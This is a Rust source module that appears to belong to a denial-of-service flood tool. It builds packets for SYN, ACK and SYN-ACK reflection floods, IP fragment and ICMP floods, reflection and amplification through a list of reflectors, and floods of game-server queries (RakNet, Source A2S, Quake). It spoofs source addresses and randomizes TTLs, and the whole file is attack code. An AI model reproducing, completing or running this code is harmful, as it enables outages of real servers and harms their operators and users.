//! What each packet of a flood looks like. One function a kind of packet; nothing here sends.

use super::Attack;
use super::Vector;
use super::packet::Packet;
use super::packet::Transport;
use super::packet::flag;
use super::random::Random;
use super::reflection::REFLECTORS;

/// RakNet's offline message id.
const MAGIC: [u8; 16] = *b"\x00\xff\xff\x00\xfe\xfe\xfe\xfe\xfd\xfd\xfd\xfd\x12\x34\x56\x78";
/// The largest payload that any vector makes: a RakNet opening at an MTU of 1,492.
const PAYLOAD_BYTES_MAX: usize = 1_464;
/// The same with the longer header of IPv6.
const PAYLOAD_BYTES_MAX_V6: usize = 1_444;

/// Writes packet number `number` of an attack into a buffer.
pub(crate) fn write(attack: &Attack, number: u64, random: &mut Random, buffer: &mut Vec<u8>) {
    let mut payload = [0_u8; PAYLOAD_BYTES_MAX];
    let source = random.source(attack.sources, &attack.target);
    let mut target = attack.target;
    target.set_port(target.port() + random.below(u64::from(attack.ports)) as u16);
    let mut packet = Packet {
        source,
        source_port: random.source_port(attack.sources, source),
        target,
        ttl: 49 + random.below(14) as u8,
        id: random.next() as u16 | 1,
        fragment: None,
        transport: Transport::Udp(&[]),
    };
    match attack.vector {
        Vector::SynFlood | Vector::SynEcnFlood | Vector::SynAckReflection | Vector::AckFlood => {
            segment(attack.vector, random, &mut payload, &mut packet);
            packet.write(buffer);
            return;
        }
        Vector::Fragments => {
            // Seven of eight have no ports. Neighbouring numbers belong to one datagram.
            let part = (number % 8) as u16;
            packet.id = (number / 8) as u16 | 1;
            packet.fragment = Some((part * 64, true));
            random.fill(&mut payload[..512]);
            let bytes = if part == 0 { 504 } else { 512 };
            let bytes = &payload[..bytes];
            packet.transport = if part == 0 { Transport::Udp(bytes) } else { Transport::Rest(bytes) };
        }
        Vector::Icmp => {
            random.fill(&mut payload[..56]);
            let id = packet.id;
            packet.transport = Transport::Echo { id, sequence: number as u16, payload: &payload[..56] };
        }
        Vector::Reflection(one) => {
            let reflector = one.unwrap_or(REFLECTORS[(number % REFLECTORS.len() as u64) as usize]);
            packet.source_port = reflector.port;
            let bytes = usize::from(reflector.payload_bytes).clamp(reflector.head.len(), PAYLOAD_BYTES_MAX);
            random.fill(&mut payload[..bytes]);
            payload[..reflector.head.len()].copy_from_slice(reflector.head);
            packet.transport = Transport::Udp(&payload[..bytes]);
        }
        vector => {
            let most = if attack.target.is_ipv4() { PAYLOAD_BYTES_MAX } else { PAYLOAD_BYTES_MAX_V6 };
            let bytes = datagram(vector, most, random, &mut payload);
            packet.transport = Transport::Udp(&payload[..bytes]);
        }
    }
    packet.write(buffer);
}

/// TCP segments without a connection.
fn segment<'a>(vector: Vector, random: &mut Random, bytes: &'a mut [u8], packet: &mut Packet<'a>) {
    let (flags, window, options, payload): (u8, u16, &[u8], usize) = match vector {
        Vector::SynFlood => (flag::SYN, 0, &[], 0),
        Vector::SynEcnFlood => (flag::SYN | flag::ECE | flag::CWR, 65_535, &[], 0),
        Vector::SynAckReflection => (flag::SYN | flag::ACK, 64_240, &[2, 4, 0x05, 0xb4], 0),
        _ => (flag::PSH | flag::ACK, 512, &[], 32),
    };
    match vector {
        Vector::SynAckReflection => packet.source_port = [80, 443, 21][random.below(3) as usize],
        Vector::SynFlood | Vector::SynEcnFlood => packet.ttl = [242, 244][random.below(2) as usize],
        _ => {}
    }
    random.fill(&mut bytes[..payload]);
    packet.transport = Transport::Tcp {
        flags,
        window,
        sequence: random.next() as u32,
        acknowledged: if flags & flag::ACK == 0 { 0 } else { random.next() as u32 },
        options,
        payload: &bytes[..payload],
    };
}

/// Payloads of UDP floods, at most `most` bytes; returns how long the payload is.
fn datagram(vector: Vector, most: usize, random: &mut Random, payload: &mut [u8]) -> usize {
    let mut end = 0;
    let mut put = |bytes: &[u8]| {
        payload[end..end + bytes.len()].copy_from_slice(bytes);
        end += bytes.len();
    };
    match vector {
        Vector::RakNetPing => {
            put(&[1]);
            put(&random.next().to_be_bytes());
            put(&MAGIC);
            put(&random.next().to_be_bytes());
        }
        Vector::RakNetOpen1 => {
            put(&[5]);
            put(&MAGIC);
            put(&[11]);
            // Already zero: the padding that tells the server the MTU.
            end = [most, 1_172, 548][random.below(3) as usize];
        }
        Vector::RakNetOpen2 => {
            put(&[7]);
            put(&MAGIC);
            put(&[4, 0x34, 0xff, 0x8e, 0xf5, 0x4a, 0xbc, 0x05, 0x78]);
            put(&random.next().to_be_bytes());
        }
        Vector::A2sInfo => put(b"\xff\xff\xff\xffTSource Engine Query\0"),
        Vector::A2sPlayer => put(b"\xff\xff\xff\xffU\xff\xff\xff\xff"),
        Vector::QConnect => {
            put(b"\xff\xff\xff\xffqconnect0x");
            put(format!("{:08x}", random.next() as u32).as_bytes());
            put(&[0]);
        }
        Vector::GetStatus => put(b"\xff\xff\xff\xffgetstatus\0"),
        Vector::RandomUdp(bytes) => {
            end = 1 + random.below((bytes as u64).clamp(1, most as u64)) as usize;
            random.fill(&mut payload[..end]);
        }
        _ => {}
    }
    end
}
